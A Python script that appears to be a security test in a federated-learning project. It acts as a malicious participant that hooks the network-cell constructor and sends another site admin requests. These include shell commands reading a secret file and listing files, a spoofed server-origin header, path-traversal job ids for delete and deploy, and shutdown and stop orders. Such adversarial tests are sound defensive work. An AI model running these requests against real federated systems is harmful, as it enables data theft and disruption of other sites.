"""A participant with a valid kit and bad intentions: it takes part, and asks another site for what it may not have.

Arguments: its kit, its state folder, its instructions (JSON), a file for the answers that it gets (JSON), a file at the
other site that it tries to read.
"""

import json
import sys
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.private.admin_defs import Message

from fedmutual.sites.flare.kits import open_kit
from fedmutual.sites.flare.workspace import run_process

VICTIM = "north"
CELLS: list[Cell] = []


def spied(self: Cell, *given: Any, **named: Any) -> None:
    made(self, *given, **named)
    CELLS.append(self)


def order(topic: str, body: str = "", job: str | None = None) -> Message:
    message = Message(topic=topic, body=body)
    if job is not None:
        message.set_header("job_id", job)
    return message


def ask(channel: str, topic: str, body: Any, **headers: str) -> str:
    """Return the result of a request: the return code, and its content."""
    try:
        request = new_cell_message(dict(headers), body)
        reply = CELLS[0].send_request(channel=channel, target=VICTIM, topic=topic, request=request, timeout=3.0)
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        return f"{code}: {reply.get_header(MessageHeaderKey.ERROR, '')} {getattr(reply.payload, 'body', reply.payload)}"
    except Exception as problem:
        return repr(problem)


def steal(out: Path, secret: str) -> None:
    """Try every attack, after the message that all participants are there."""
    while not out.with_suffix(".go").exists():
        time.sleep(0.1)
    admin, spoofed = CellChannel.CLIENT_MAIN, {MessageHeaderKey.ORIGIN: "server"}
    answers_by_attempt = {
        "read": ask(admin, "admin", order("sys.shell", f"cat {secret}")),
        "list": ask(admin, "admin", order("sys.shell", "ls -a")),
        "as the server": ask(admin, "admin", order("sys.shell", f"cat {secret}"), **spoofed),
        "host": ask(admin, "admin", order("sys.info")),
        "paths": ask(admin, "admin", order("sys.report_env")),
        "errors": ask(admin, "admin", order("info.show_errors")),
        "end": ask(admin, "admin", order("train.shutdown")),
        "delete": ask(admin, "admin", order("train.delete_run", job="../wards")),
        "deploy": ask(admin, "admin", order("train.deploy", job="../wards")),
        "stop": ask("_net_manager", "stop", None),
    }
    out.with_suffix(".part").write_text(json.dumps(answers_by_attempt))
    out.with_suffix(".part").rename(out)


if __name__ == "__main__":
    kit, state, options, answers, wanted = sys.argv[1:6]
    made, Cell.__init__ = Cell.__init__, spied
    threading.Thread(target=steal, args=(Path(answers), wanted), daemon=True).start()
    sys.exit(run_process(open_kit(Path(kit)), Path(state), json.loads(options), lambda interrupt: 130))
